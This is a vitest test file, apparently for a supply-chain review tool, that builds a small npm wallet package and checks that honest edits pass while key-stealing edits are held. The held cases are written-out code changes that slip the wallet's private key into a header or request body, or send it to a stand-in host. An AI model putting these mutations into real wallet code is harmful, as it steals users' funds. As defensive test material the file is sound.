import { afterAll, expect, it } from 'vitest';
import { openJudge } from '../src/packages/openJudge.ts';
import type { PackageFiles } from '../src/packages/packageFiles.ts';

// A wallet whose key comes to its own sender already, a long way round: there a thief needs no call of the network of his
// own. What it does is harmless, and it sends to no host that could exist.
const LONG_WAY = Array.from({ length: 12 }, (_, at) => `pass${at}`);
const WALLET = `const { sign } = require('@noble/secp256k1');
const { Client } = require('./client.js');
${LONG_WAY.map((name) => `const ${name} = (one) => one;`).join('\n')}
class Wallet {
  constructor(privateKey, url) {
    this.account = { privateKey, nonce: 0 };
    this.client = new Client(url);
    this.client.account = this.account;
  }
  save() {
    return this.client.save(${LONG_WAY.map((name) => `${name}(`).join('')}this.account${')'.repeat(LONG_WAY.length)});
  }
  transfer(tx) {
    const signature = sign(tx.hash, this.account.privateKey);
    return this.client.send({ to: tx.to, amount: tx.amount, signature });
  }
}
exports.Wallet = Wallet;
`;
const CLIENT = `const VERSION = '1.0.0';
class Client {
  constructor(url) {
    this.url = url;
  }
  save(account) {
    return this.request('/accounts', account);
  }
  send(tx) {
    return this.request('/transactions', tx);
  }
  async request(path, params) {
    const headers = { 'content-type': 'application/json', 'user-agent': 'wallet/' + VERSION };
    const body = { id: 1, params };
    const answer = await fetch(this.url + path, { method: 'POST', headers, body: JSON.stringify(body) });
    return answer.json();
  }
}
exports.Client = Client;
`;
const BEFORE: PackageFiles = new Map([
  ['package.json', '{"name": "wallet", "version": "1.0.0", "dependencies": {"@noble/secp256k1": "^2.0.0"}}'],
  ['wallet.js', WALLET],
  ['client.js', CLIENT],
]);

const opened = openJudge(60_000);
afterAll(() => opened[Symbol.asyncDispose]());

async function decisionOn(file: string, from: string, to: string): Promise<string> {
  const text = BEFORE.get(file) ?? '';
  expect(text).toContain(from);
  const files = new Map([...BEFORE, [file, text.replaceAll(from, to)]]);
  return (await opened.judge({ ecosystem: 'npm', files, before: BEFORE })).decision;
}

it.each([
  ['another version', "'1.0.0'", "'1.0.1'"],
  ['a check', '    return answer', '    if (!answer.ok) throw new Error(String(answer.status));\n    return answer'],
  ['a header', "'user-agent'", "accept: '*/*', 'user-agent'"],
  ['another name', 'answer', 'response'],
  ['another class', 'class Client {', 'class Client {\n  ping() {\n    return this.url;\n  }'],
])('a sender of the package that changes honestly passes: %s', async (_, from, to) => {
  expect(await decisionOn('client.js', from, to)).toBe('pass');
});

it.each([
  ['in a header', 'client.js', "'wallet/' + VERSION", "'wallet/' + this.account.privateKey"],
  ['in the body', 'client.js', 'id: 1', 'id: 1, memo: this.account.privateKey'],
  ['behind the body', 'client.js', 'JSON.stringify(body)', 'JSON.stringify(body) + this.account.privateKey'],
  ['put into the body', 'client.js', '    const answer', '    body.memo = this.account.privateKey;\n    const answer'],
  ['to where it is told', 'client.js', 'this.url + path', '(this.account.nonce || this.url) + path'],
  ['to another host', 'client.js', 'this.url + path', "'https://cdn.example.invalid' + path"],
  ['by who calls it', 'wallet.js', 'to: tx.to', 'to: tx.to, memo: this.account.privateKey'],
])('a theft by a sender that the package has is held: %s', async (_, file, from, to) => {
  expect(await decisionOn(file, from, to)).toBe('hold');
});
